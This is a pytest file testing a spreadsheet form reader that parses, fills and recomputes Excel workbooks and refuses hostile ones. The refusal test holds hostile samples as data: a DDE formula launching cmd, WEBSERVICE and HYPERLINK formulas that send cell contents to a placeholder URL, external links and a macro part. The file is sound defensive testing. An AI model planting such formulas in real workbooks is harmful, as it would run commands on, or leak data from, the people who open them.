"""A form on its way in: read as it stands by the worker; what may not come in is refused with its place."""

from decimal import Decimal
from io import BytesIO

import pytest
import xlsxwriter

from thenchot.files.forms import read_form, take_form
from thenchot.files.refusals import Refused
from thenchot.files.sheets.cells import read_book
from thenchot.files.sheets.filled import with_values

from .workbooks import MAIN, book, packed, parts_of, relation, sheet_of, with_part


def form(**more):
    """Merged cells, a hidden sheet, hidden rows and columns, protection, formulas over two sheets."""
    buffer = BytesIO()
    with xlsxwriter.Workbook(buffer) as made:
        sheet = made.add_worksheet("Biểu 1")
        bold = made.add_format({"bold": True, "align": "center", "num_format": "#,##0"})
        sheet.merge_range("A1:C1", "BIỂU", bold)
        sheet.write_row(1, 0, ["Chỉ tiêu", "Số", "Cộng"])
        sheet.write_blank(2, 1, None, bold)
        sheet.write_number(3, 1, 2.5, bold)
        sheet.write_formula(2, 2, "=SUM(B3:B4)", bold, 0)
        sheet.set_row(3, None, None, {"hidden": True})
        sheet.set_column(5, 6, 9, None, {"hidden": True})
        sheet.protect("khoa")
        sheet.data_validation("B3", {"validate": "integer", "criteria": ">=", "value": 0})
        sheet.conditional_format("B3:B4", {"type": "data_bar"})
        hidden = made.add_worksheet("Ẩn")
        hidden.write_formula(0, 0, "='Biểu 1'!C3*2", None, 0)
        hidden.hide()
        made.define_name("Vung", "='Biểu 1'!$A$1:$C$4")
    return buffer.getvalue()


def test_a_form_is_read_as_it_stands():
    given = take_form(form(), "bieu.xlsx")
    one, hidden = given.book.sheets
    assert (one.name, one.protected, one.hidden, hidden.hidden) == ("Biểu 1", True, False, True)
    assert one.merged == [(0, 0, 0, 2)] and one.hidden_rows == {3} and one.hidden_columns == {5, 6}
    assert one.value(0, 2) == "BIỂU" and (0, 2) in one.covered
    assert one.cells[2, 2].formula == "SUM(B3:B4)" and given.book.looks[one.cells[0, 0].look].bold
    same = read_book(given.data)
    assert [sheet.cells for sheet in same.sheets] == [sheet.cells for sheet in given.book.sheets]
    assert "form_formulas" in {note.code for note in given.notes}


def test_filling_keeps_every_part_and_computes_what_follows_in_hidden_sheets_too():
    given = take_form(form())
    after = with_values(given.data, {("Biểu 1", "B3"): 4}, given.book)
    anew = read_form(after)
    assert anew.sheet("Biểu 1").value(2, 2) == Decimal("6.5")
    assert anew.sheet("Ẩn").value(0, 0) == 13 and anew.sheet("Biểu 1").protected
    before, later = parts_of(given.data), parts_of(after)
    assert list(before) == list(later)
    changed = {name for name in before if before[name] != later[name]}
    assert changed == {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}  # it computed on load before
    for word in (b"<sheetProtection", b"<mergeCell ", b"<dataValidation ", b"dataBar", b"<pageMargins"):
        assert word in later["xl/worksheets/sheet1.xml"]
    assert b"Vung" in later["xl/workbook.xml"] and b'fullCalcOnLoad="1"' in later["xl/workbook.xml"]


def with_formula(text):
    return sheet_of(f'<sheetData><row r="1"><c r="C1"><f>{text}</f><v>1</v></c></row></sheetData>')


def wide(columns):
    cells = "".join(f'<c r="{name}1"><v>1</v></c>' for name in columns)
    return sheet_of(f'<sheetData><row r="1">{cells}</row></sheetData>')


DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'


@pytest.mark.parametrize(
    ("name", "make", "code"),
    [
        ("webservice", lambda: with_formula("WEBSERVICE(&quot;http://x/&quot;&amp;A1)"), None),
        ("webservice, newer", lambda: with_formula("_xlfn.WEBSERVICE(A1)"), None),
        ("filterxml", lambda: with_formula("FILTERXML(A1,A2)"), None),
        ("rtd", lambda: with_formula("RTD(&quot;x&quot;,,&quot;y&quot;)"), None),
        ("call", lambda: with_formula("CALL(&quot;x&quot;,&quot;y&quot;)"), None),
        ("hyperlink outside", lambda: with_formula("HYPERLINK(&quot;http://x/&quot;&amp;A1)"), None),
        ("dde in a formula", lambda: with_formula("cmd|'/c calc'!A1"), None),
        ("another workbook", lambda: with_formula("[1]Sheet1!A1"), None),
        ("dde link", lambda: with_part("xl/externalLinks/externalLink1.xml", DDE), "dde"),
        ("link to a file", lambda: relation("externalLinkPath", "file:///c:/x", "External"), "external_link"),
        ("5,000 columns", lambda: wide(["A", "GJH"]), "columns"),
        ("macro", lambda: with_part("xl/vbaProject.bin", b"x"), "macro"),
    ],
)  # fmt: skip
def test_hostile_forms_are_refused(name, make, code):
    with pytest.raises(Refused) as no:
        take_form(make())
    assert code is None or no.value.code == code
    if code is None:
        assert no.value.place.endswith("C1")  # the sentence says where


def test_a_name_that_begins_with_a_sign_stays_text():
    data = book([["Đơn vị", ""], ["x", ""]])
    after = with_values(data, {("Sheet1", "A2"): '=HYPERLINK("http://x")', ("Sheet1", "B2"): "+1"})
    assert b"<f" not in parts_of(after)["xl/worksheets/sheet1.xml"]
    assert read_form(after).sheets[0].value(1, 0).startswith("=HYPERLINK")


def test_what_the_worker_cannot_read_is_refused_not_crashed():
    parts = parts_of(sheet_of('<sheetData><row r="1"><c r="A1" t="s"><v>99999</v></c></row></sheetData>'))
    assert take_form(packed(parts)).book.sheets[0].value(0, 0) is None


def test_formulas_that_look_up_and_array_formulas_are_filled_in():
    buffer = BytesIO()
    with xlsxwriter.Workbook(buffer) as made:
        page = made.add_worksheet("B")
        for row, (name, first, second) in enumerate((("Xã A", 1, 2), ("Xã B", 3, 4))):
            page.write_row(row, 0, [name, first, second])
        page.write_formula("E1", '=VLOOKUP("Xã B",A1:C2,2,FALSE)')
        page.write_formula("E2", '=SUMPRODUCT((A1:A2="Xã B")*C1:C2)')
        page.write_array_formula("E3:E3", "{=SUM(B1:B2*C1:C2)}")
        page.write_array_formula("F1:F2", "{=B1:B2*2}")
    filled = read_book(with_values(buffer.getvalue(), {("B", "B2"): 30, ("B", "C2"): 40}))
    assert [filled.sheet("B").cells[row, 4].value for row in range(3)] == [30, 40, 1 * 2 + 30 * 40]
    computed = filled.computed({})
    assert ("B", 0, 5) in computed.unknown, "over several cells it is named"
